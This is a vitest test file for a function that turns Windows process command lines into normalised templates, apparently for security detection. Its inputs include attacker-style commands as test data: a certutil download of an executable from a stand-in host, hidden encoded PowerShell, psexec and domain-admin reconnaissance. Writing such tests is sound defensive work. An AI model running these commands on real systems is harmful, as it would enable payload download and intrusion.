import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { commandLineTemplate, MAX_TEMPLATE_LENGTH } from './command_line_template';

describe('commandLineTemplate', () => {
  it.each([
    ['"C:\\Windows\\system32\\cmd.exe" /c ping -n 4 10.1.2.3', 'cmd.exe /c ping -n <num> <ip>'],
    ['\\??\\C:\\windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'conhost.exe <hex> -forcev1'],
    [
      'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
      'svchost.exe -k netsvcs -p -s schedule',
    ],
    ['whoami /all', 'whoami /all'],
    ['net group "domain admins" /domain', 'net group "domain admins" /domain'],
  ])('%s → %s', (input, expected) => {
    expect(commandLineTemplate(input)).toBe(expected);
  });

  it('replaces GUIDs, SIDs and IPs with port', () => {
    expect(
      commandLineTemplate('dllhost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}'),
    ).toBe('dllhost.exe /processid:<guid>');
    expect(
      commandLineTemplate(
        'psexec \\\\10.0.0.5:445 -s S-1-5-21-3786818125-2382361537-3207726629-1104',
      ),
    ).toBe('psexec \\\\<ip> -s <sid>');
  });

  it('replaces user folder names but keeps Public and Default', () => {
    expect(commandLineTemplate('run.exe C:\\Users\\bob\\AppData\\Roaming\\u.exe')).toBe(
      'run.exe c:\\users\\<user>\\appdata\\roaming\\u.exe',
    );
    expect(commandLineTemplate('run.exe C:\\Users\\Public\\l.dmp')).toBe(
      'run.exe c:\\users\\public\\l.dmp',
    );
    // argv[0] is reduced to its basename whatever folder it ran from (the process name is the key).
    expect(commandLineTemplate('"C:\\Users\\bob\\Downloads\\payload.exe" -x')).toBe(
      'payload.exe -x',
    );
    expect(commandLineTemplate('x.exe C:\\Users\\alice\\a.txt C:\\Users\\carol\\a.txt')).toBe(
      'x.exe c:\\users\\<user>\\a.txt c:\\users\\<user>\\a.txt',
    );
  });

  it('collapses temp file names and named pipes', () => {
    expect(
      commandLineTemplate('msiexec /i C:\\Users\\bob\\AppData\\Local\\Temp\\7zS1A2B\\setup.msi /q'),
    ).toBe('msiexec /i c:\\users\\<user>\\appdata\\local\\temp\\<tmp> /q');
    expect(commandLineTemplate('cmd /c copy x %TEMP%\\abc123.bat')).toBe(
      'cmd /c copy x %temp%\\<tmp>',
    );
    expect(commandLineTemplate('cmd.exe /c echo qwerty > \\\\.\\pipe\\qwerty')).toBe(
      'cmd.exe /c echo qwerty > \\\\.\\pipe\\<pipe>',
    );
  });

  it('collapses encoded commands and blobs but keeps the switch', () => {
    const a = commandLineTemplate(
      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=',
    );
    const b = commandLineTemplate(
      'powershell -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAA==',
    );
    expect(a).toBe('powershell -nop -w hidden -enc <b64>');
    expect(b).toBe(a);
    expect(
      commandLineTemplate(
        'powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=',
      ),
    ).toBe('powershell -encodedcommand <b64>');
  });

  it('tells hashes from hex ids and leaves words alone', () => {
    expect(
      commandLineTemplate(
        'certutil -hashfile a.exe SHA256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      ),
    ).toBe('certutil -hashfile a.exe sha256 <hash>');
    expect(commandLineTemplate('msiexec.exe -Embedding 8D3E6F3A2B1C4D5E6F708192A3B4C5D6 E')).toBe(
      'msiexec.exe -embedding <hash> e',
    );
    expect(commandLineTemplate('tool.exe --id 1a2b3c4d5e')).toBe('tool.exe --id <hex>');
    expect(commandLineTemplate('tool.exe defaced accede')).toBe('tool.exe defaced accede');
  });

  it('keeps digits that are part of names (win32, v1, x64)', () => {
    expect(
      commandLineTemplate(
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -file C:\\win32\\x64\\a.ps1',
      ),
    ).toBe('powershell.exe -file c:\\win32\\x64\\a.ps1');
  });

  it('replaces URLs and long quoted strings', () => {
    expect(
      commandLineTemplate('certutil -urlcache -split -f http://evil.example.com/a.exe a.exe'),
    ).toBe('certutil -urlcache -split -f <url> a.exe');
    const long = `powershell -c "${'Write-Host hello; '.repeat(10)}"`;
    expect(commandLineTemplate(long)).toBe('powershell -c "<str>"');
  });

  it('maps the same action with different volatile parts to one template', () => {
    const runs = [
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=1234,5678 --renderer-client-id=5 /prefetch:1',
      'chrome.exe --type=renderer --field-trial-handle=99,1 --renderer-client-id=17 /prefetch:1',
    ];
    expect(new Set(runs.map((r) => commandLineTemplate(r))).size).toBe(1);
  });

  it("replaces the process user's own name, not service accounts or parts of words", () => {
    expect(
      commandLineTemplate('net use h: \\\\srv-fs01\\home$\\KDavis /persistent:no', {
        userName: 'kdavis',
      }),
    ).toBe('net use h: \\\\srv-fs01\\home$\\<user> /persistent:no');
    expect(commandLineTemplate('reg query HKLM\\SYSTEM\\x', { userName: 'SYSTEM' })).toBe(
      'reg query hklm\\system\\x',
    );
    expect(commandLineTemplate('x.exe bobby bob', { userName: 'bob' })).toBe('x.exe bobby <user>');
    expect(commandLineTemplate('x.exe ws01$', { userName: 'WS01$' })).toBe('x.exe ws01$');
  });

  it('handles empty input and bounds output length', () => {
    expect(commandLineTemplate(undefined)).toBe('');
    expect(commandLineTemplate('')).toBe('');
    expect(commandLineTemplate(`a.exe ${'x '.repeat(2000)}`).length).toBeLessThanOrEqual(
      MAX_TEMPLATE_LENGTH,
    );
  });

  it('is idempotent (a template can be templated again, e.g. in a hand-written rule)', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (s) => {
        const t = commandLineTemplate(s);
        expect(commandLineTemplate(t)).toBe(t);
      }),
      { numRuns: 2000 },
    );
    // Command-line-like alphabet: quotes, separators, digits and hex reach the tricky paths.
    const chars = '0123456789abcdefx.:,-_ "\'\\/{}<>=+%sS'.split('');
    fc.assert(
      fc.property(fc.string({ maxLength: 80, unit: fc.constantFrom(...chars) }), (s) => {
        const t = commandLineTemplate(s);
        expect(commandLineTemplate(t)).toBe(t);
      }),
      { numRuns: 5000 },
    );
    for (const s of [
      'cmd.exe /c ping -n 4 10.1.2.3 > C:\\Users\\bob\\AppData\\Local\\Temp\\x1.txt',
      'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=',
      'a.exe {3EB3C877-1F16-487C-9050-104DBCD66683} 0x1f 1a2b3c4d5e S-1-5-18',
      // Counterexamples fast-check once found (argv[0] edge cases, placeholders lengthening text).
      '"\\"!',
      '/" /',
      '" " ">',
      '"ab://\\',
      `' 1234 0xff "C:\\Program Files\\x.exe" aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= {3EB3C877-1F16-487C-9050-104DBCD66683} '`,
    ]) {
      expect(commandLineTemplate(commandLineTemplate(s))).toBe(commandLineTemplate(s));
    }
  });

  it('runs in linear time on adversarial input', () => {
    const adversarial = [
      '1'.repeat(30_000) + 'a',
      '1.'.repeat(15_000) + 'x',
      'a'.repeat(30_000),
      '"'.repeat(30_000),
      '\\users\\'.repeat(4000),
      '-e '.repeat(10_000),
      'S-1-'.repeat(7000) + 'x',
      'ab'.repeat(15_000) + '=',
      '0x'.repeat(15_000),
      'http://'.repeat(4000),
      '\\temp\\'.repeat(5000),
      '{00000000-'.repeat(3000),
    ];
    for (const s of adversarial) {
      const t0 = performance.now();
      commandLineTemplate(s);
      // Quadratic behaviour on 30K characters would take seconds.
      expect(performance.now() - t0).toBeLessThan(250);
    }
  });
});
